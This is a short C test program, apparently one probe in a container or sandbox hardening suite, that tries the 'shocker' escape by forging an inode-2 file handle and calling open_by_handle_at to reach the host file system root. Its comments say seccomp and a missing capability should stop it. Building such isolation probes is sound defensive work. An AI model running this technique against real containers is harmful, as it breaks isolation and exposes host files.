/* Opens the root directory of the file system that holds the workspace, by its inode number.
 * Matters: "shocker", the escape that ended Docker's first years: a handle names a file past every directory and mount.
 * Held by: seccomp, and CAP_DAC_READ_SEARCH that nobody inside has.
 * control: root */
#include "hostile.h"

int main(void) {
    char space[sizeof(struct file_handle) + 128] __attribute__((aligned(16)));
    struct file_handle *handle = (void *)space;
    handle->handle_bytes = 128;
    int mount_id;
    int mount_fd = open(".", O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, ".", handle, &mount_id, 0) != 0) {
        /* Without a true handle, a made up one: inode 2 is the root of an ext4 file system. */
        handle->handle_bytes = 8;
        handle->handle_type = 1;
        memcpy(handle->f_handle, "\2\0\0\0\0\0\0\0", 8);
    }
    return reached("open_by_handle_at", open_by_handle_at(mount_fd, handle, O_RDONLY));
}
